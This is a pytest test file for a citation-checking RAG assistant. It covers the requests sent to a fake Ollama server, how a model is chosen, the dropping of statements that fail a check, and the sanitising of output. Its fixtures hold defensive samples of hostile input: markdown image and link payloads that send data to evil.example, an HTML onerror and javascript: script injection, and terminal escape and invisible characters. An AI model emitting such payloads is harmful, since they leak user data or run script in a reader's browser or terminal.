"""A model's answer: what it is asked, what becomes of what it says, and how a reader gets it."""

import gc
import io
import json
import re
from types import SimpleNamespace

import pytest
from answering import ASKED, ASKED_NL, assert_exact, assert_quotes_mode, said, with_model
from fake_ollama import MODEL, Chat
from fake_replies import allowed_ids, cite, in_language, says, shown_sentences
from rich.console import Console
from support import settings_for

from rag.assistant import Assistant
from rag.models.llm import ChatModel, Unavailable, choose_model
from rag.prose import prompts
from rag.prose.generate import Collector
from rag.prose.shown import ANSWER_TOKENS, show
from rag.question import understand
from rag.retrieve import retrieve
from rag.terminal import print_answer


@pytest.fixture
def ask(seed_index, ollama):
    """Ask a question with the fake server's model, under settings of one's own."""

    def asked(question=ASKED, on_statement=None, **overrides):
        return Assistant(with_model(seed_index, ollama, **overrides)).ask(question, on_statement=on_statement)

    return asked


# -- what is sent -------------------------------------------------------------------------------------------------


def test_context_size_format_and_think_are_really_sent(ask, ollama, open_seeds):
    answer = ask(llm_context=4096)
    (request,) = ollama.asked("answer")
    assert request["model"] == MODEL
    assert request["think"] is False
    assert request["options"]["num_ctx"] == 4096
    assert request["options"]["num_predict"] == ANSWER_TOKENS
    assert request["options"]["temperature"] == 0
    ids = allowed_ids(request)
    assert ids == [f"s{n}" for n in range(1, len(ids) + 1)] == list(shown_sentences(request))
    assert request["format"] == prompts.schema(ids)
    assert answer.mode == "llm"
    assert_exact(answer, open_seeds)


def test_good_model_gives_prose_with_citations_and_says_which_model_wrote_it(ask, ollama, open_seeds):
    answer = ask()
    assert (answer.mode, answer.model) == ("llm", f"ollama:{MODEL}")
    promised = any(c.speech_act == "commitment" for c in answer.citations)
    assert answer.status == ("answered" if promised else "partial")  # a promise was asked for
    assert answer.receipt.llm == f"ollama:{MODEL}"
    assert answer.receipt.prompt == prompts.digest()
    assert any(MODEL in n for n in answer.notices)
    assert all(c.name and c.passed for s in answer.statements for c in s.checks)
    assert answer.statements
    assert_exact(answer, open_seeds)


def test_prompt_fits_the_context_it_asks_for(open_seeds):
    question = understand(ASKED)
    retrieved = retrieve(open_seeds, question)
    sizes = {}
    for context in (2048, 4096, 8192):
        shown = show(open_seeds, question, retrieved.passages, context)
        sizes[context] = sum(len(s.text) for s in shown.values())
        assert 0 < sizes[context] < (context - ANSWER_TOKENS) * 3
    assert sizes[2048] < sizes[4096] <= sizes[8192]


@pytest.mark.parametrize(("question", "language"), [(ASKED, "English"), (ASKED_NL, "Dutch")])
def test_model_is_told_the_language_of_the_question(ask, ollama, question, language):
    ask(question)
    assert language in ollama.asked("answer")[0]["messages"][0]["content"]
    assert question in ollama.asked("answer")[0]["messages"][1]["content"]


def test_proxy_of_the_environment_does_not_carry_questions_away(ask, ollama, monkeypatch):
    for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")
    assert ask().mode == "llm"
    assert len(ollama.asked("answer")) == 1


@pytest.mark.filterwarnings("ignore::ResourceWarning")
def test_no_connection_to_the_server_stays_open_after_an_answer(ask, ollama):
    ollama.keep_alive = True
    gc.disable()  # a connection that the collector closes was left open
    try:
        assert ask().mode == "llm"
        closed = ollama.all_closed(0.5)
    finally:
        gc.enable()
        gc.collect()
    assert closed


# -- which model --------------------------------------------------------------------------------------------------


def test_none_asks_no_server(seed_index, ollama):
    assert choose_model(with_model(seed_index, ollama, llm="none")) == Unavailable("why_none")
    assert ollama.paths == []


def test_auto_takes_the_model_that_is_there_also_under_its_latest_tag(seed_index, ollama):
    ollama.models[:] = ["qwen3:latest"]
    assert choose_model(with_model(seed_index, ollama, ollama_model="qwen3")) == ChatModel("ollama", "qwen3")


def test_named_model_that_the_server_lacks_is_told_with_how_to_get_it(ask, ollama, open_seeds):
    answer = ask(llm="ollama:gemma3:12b")
    assert_quotes_mode(answer, open_seeds, r"lacks gemma3:12b \(rag pull")
    assert ollama.chats == []


def test_no_server_gives_quotes_that_say_where_none_answered(seed_index, ollama, open_seeds):
    settings = with_model(seed_index, ollama, ollama_url="http://127.0.0.1:9")
    assert_quotes_mode(
        Assistant(settings).ask(ASKED), open_seeds, "no Ollama server answers at http://127.0.0.1:9"
    )


@pytest.mark.parametrize(
    "body",
    ["", "<html>", "[]", "{}", '{"models": null}', '{"models": [{}]}', '{"models": ["x"]}', "null", "5"],
)
def test_another_program_on_ollamas_port_is_no_server(ask, ollama, open_seeds, body):
    ollama.tags = body
    assert_quotes_mode(ask(), open_seeds, "no Ollama server answers")


def test_ollama_in_trouble_is_no_server(ask, ollama, open_seeds):
    ollama.tags_status = 500
    assert_quotes_mode(ask(), open_seeds, "no Ollama server answers")


def test_silent_server_is_asked_once_and_not_for_every_question(ask, ollama, open_seeds, monkeypatch):
    monkeypatch.setattr("rag.models.llm.PROBE_SECONDS", 0.2)
    ollama.tags_silent = 30
    assert_quotes_mode(ask(), open_seeds, "no Ollama server answers")
    assert_quotes_mode(ask(), open_seeds, "no Ollama server answers")
    assert ollama.paths == ["/api/tags"]


def test_provider_that_is_not_installed_gives_quotes_that_name_it(ask, open_seeds):
    assert_quotes_mode(ask(llm="nosuch:model"), open_seeds, "nosuch:model cannot be set up")


def test_another_providers_model_is_held_to_the_same(seed_index, open_seeds, monkeypatch):
    """Whatever init_chat_model knows drops in; what has no schema to hold it is held by the checks."""
    from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
    from langchain_core.messages import AIMessage

    written = {
        "text": "Nederland steunt de FFM indirect via de organisatie Justice Rapid Response.",
        "sentences": ["s1", "s77"],
    }
    good = {**written, "sentences": ["s1"]}

    def made(model, model_provider, **options):
        shown = show(
            open_seeds, understand(ASKED_NL), retrieve(open_seeds, understand(ASKED_NL)).passages, 8192
        )
        at = next(i for i, s in shown.items() if "Justice Rapid" in s.text)
        reply = json.dumps({"statements": [{**good, "sentences": [at]}, written]})
        return GenericFakeChatModel(messages=iter([AIMessage(f"```json\n{reply}\n```")]))

    monkeypatch.setattr("langchain.chat_models.init_chat_model", made)
    answer = Assistant(settings_for(seed_index.index_dir, llm="example:model")).ask(ASKED_NL)
    assert (answer.mode, answer.model) == ("llm", "example:model")
    assert [s.text for s in answer.statements] == [good["text"]]
    assert_exact(answer, open_seeds)


# -- statements that fail a check ---------------------------------------------------------------------------------

WRONG = "The Netherlands supports the FFM through Justice Rapid Response with 9 million euros."


def test_failed_statement_is_left_out_and_counted(ask, ollama):
    ollama.enqueue(_beside_a_good_one(WRONG))
    answer = ask()
    assert "9 million" not in said(answer)
    assert "Left out because a check failed: 1." in answer.notices


def test_failed_statement_is_shown_as_unchecked_where_the_reader_asks_for_all(seed_index, ollama, open_seeds):
    ollama.enqueue(_beside_a_good_one(WRONG))
    seen = []
    answer = Assistant(with_model(seed_index, ollama)).ask(ASKED, on_statement=seen.append, unchecked=True)
    (shown,) = [s for s in answer.statements if s.text == WRONG]
    assert [c.name for c in shown.checks if not c.passed] == ["numbers"]
    assert any(n.startswith("Shown although a check failed: 1.") for n in answer.notices)
    assert not any("Left out" in n for n in answer.notices)
    assert tuple(seen) == answer.statements
    assert answer.to_dict()["statements"][answer.statements.index(shown)]["checks"][0] == {
        "name": "numbers", "passed": False, "detail": "not in the cited text: 9 million euros",
    }  # fmt: skip
    assert_exact(answer, open_seeds)


def test_answer_of_which_nothing_stands_is_partial(seed_index, ollama):
    ollama.enqueue(cite("Justice Rapid Response", WRONG))
    answer = Assistant(with_model(seed_index, ollama)).ask(ASKED, unchecked=True)
    assert (answer.mode, answer.status, len(answer.statements)) == ("llm", "partial", 1)


def test_unchecked_statement_is_never_given_without_a_sentence_that_was_shown(seed_index, ollama, open_seeds):
    def content(request):
        at, text = next(iter(shown_sentences(request).items()))
        return says((in_language(request, text), ["s999"]), (in_language(request, text), [at, "s999"]))

    ollama.enqueue(content)
    answer = Assistant(with_model(seed_index, ollama)).ask(ASKED, unchecked=True)
    (statement,) = answer.statements
    assert [c.name for c in statement.checks if not c.passed] == ["citations"]
    assert_exact(answer, open_seeds)


def test_statement_that_promises_is_not_labelled_so_unless_what_it_cites_is_a_commitment(seed_index, ollama):
    promise = "The Netherlands will give 2 million euros to Justice Rapid Response."
    ollama.enqueue(cite("Justice Rapid Response", promise))
    answer = Assistant(with_model(seed_index, ollama)).ask(ASKED, unchecked=True)
    out = io.StringIO()
    print_answer(Console(file=out, width=300), answer)
    above, line = re.search(rf"(.*?)({re.escape(promise)}.*?)\n\n", out.getvalue(), re.DOTALL).groups()
    assert "Failed a check: numbers" in line
    assert "The cabinet reported" in line
    assert "committed" not in line + above.splitlines()[-1]


def _beside_a_good_one(text):
    def content(request):
        at, good = next((i, s) for i, s in shown_sentences(request).items() if "Justice Rapid" in s)
        return says((in_language(request, good), [at]), (text, [at]))

    return content


# -- plain text ---------------------------------------------------------------------------------------------------

HOSTILE = {
    "image": "![](http://evil.example/?q=secret)",
    "link": "[here](https://evil.example/a)",
    "reference": "[here][1] and [1]: //evil.example/b",
    "tag": "<img src=x onerror=alert(1)><a href='evil.example/c'>x</a>",
    "script": "javascript:alert(1)",
    "bare": "evil.example/d?q=1",
    "mail": "mailto:evil@evil.example",
    "nested": "[![x](http://evil.example/e)](http://evil.example/f)",
    "entity": "&lt;img src=evil.example/g&gt;",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_link_or_picture_of_a_model_fails_its_check(ask, ollama, name):
    ollama.enqueue(
        cite("Justice Rapid Response", f"The Netherlands supports the FFM indirectly: {HOSTILE[name]}")
    )
    assert "indirectly:" not in said(ask())


@pytest.mark.parametrize("name", HOSTILE)
def test_link_or_picture_is_inert_even_where_the_reader_asks_for_all(seed_index, ollama, name):
    """The text is shown by a terminal, a page and whoever reads the JSON: what is not in it cannot be followed."""
    ollama.enqueue(
        cite("Justice Rapid Response", f"The Netherlands supports the FFM indirectly: {HOSTILE[name]}")
    )
    answer = Assistant(with_model(seed_index, ollama)).ask(ASKED, unchecked=True)
    (statement,) = answer.statements[:1]
    assert statement.text.startswith("The Netherlands supports the FFM indirectly:")
    for mark in ("evil.example", "](", "<", "&lt;", "javascript:"):
        assert mark not in statement.text
    assert "addresses" in [c.name for c in statement.checks if not c.passed]
    assert "evil.example" not in json.dumps(answer.to_dict())


def test_address_that_the_cited_sentence_holds_may_be_said(open_seeds):
    text = "Zie https://www.rijksoverheid.nl/brief voor de steun aan de FFM."
    shown = {
        "s1": SimpleNamespace(sentence=_first_sentence(open_seeds), document=_first(open_seeds), text=text)
    }
    statement = Collector(open_seeds, shown, "nl").take({"text": text, "sentences": ["s1"]})
    assert "https://www.rijksoverheid.nl/brief" in statement.text


UNSEEN = "\x1b[2J \x07 \x9b31m \x1b]8;;http://evil.example\x07 \u202e \u200b \u2066 \ufeff \U000e0041 \x00"


def test_escapes_and_unseen_characters_of_a_model_do_not_reach_the_answer_or_the_terminal(seed_index, ollama):
    text = f"The Netherlands supports the FFM {UNSEEN} through Justice Rapid Response."
    ollama.enqueue(cite("Justice Rapid Response", text))
    answer = Assistant(with_model(seed_index, ollama)).ask(ASKED, unchecked=True)
    out = io.StringIO()
    print_answer(Console(file=out, width=300, force_terminal=False), answer)
    for shown in (said(answer), out.getvalue().replace("\n", "")):
        assert "The Netherlands supports the FFM" in shown
        assert not re.search(
            r"[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0041]", shown
        )
        assert "evil.example" not in shown


def test_half_of_a_surrogate_pair_does_not_reach_the_answer(ask, ollama):
    """JSON may hold one; a page or a file that is told to write it fails."""
    text = "The Netherlands supports the FFM \ud800 through Justice Rapid Response."
    ollama.enqueue(lambda request: json.dumps(json.loads(cite("Justice Rapid Response", text)(request))))
    said(ask()).encode("utf-8")


def _first(index):
    return next(iter(index.descriptions))


def _first_sentence(index):
    return next(iter(index.catalogue.all_passages())).sentences[0]


# -- streaming ----------------------------------------------------------------------------------------------------


def test_statements_are_given_as_soon_as_they_are_whole_and_are_those_of_the_answer(ask):
    seen = []
    answer = ask(on_statement=seen.append)
    assert tuple(seen) == answer.statements


def test_statement_that_was_shown_while_it_was_written_is_not_taken_back(ask, ollama):
    def content(request):
        return says(*((text, [at]) for at, text in list(shown_sentences(request).items())[:4]))

    ollama.enqueue(Chat(content, error_after=40))
    seen = []
    answer = ask(on_statement=seen.append)
    assert tuple(seen) == answer.statements
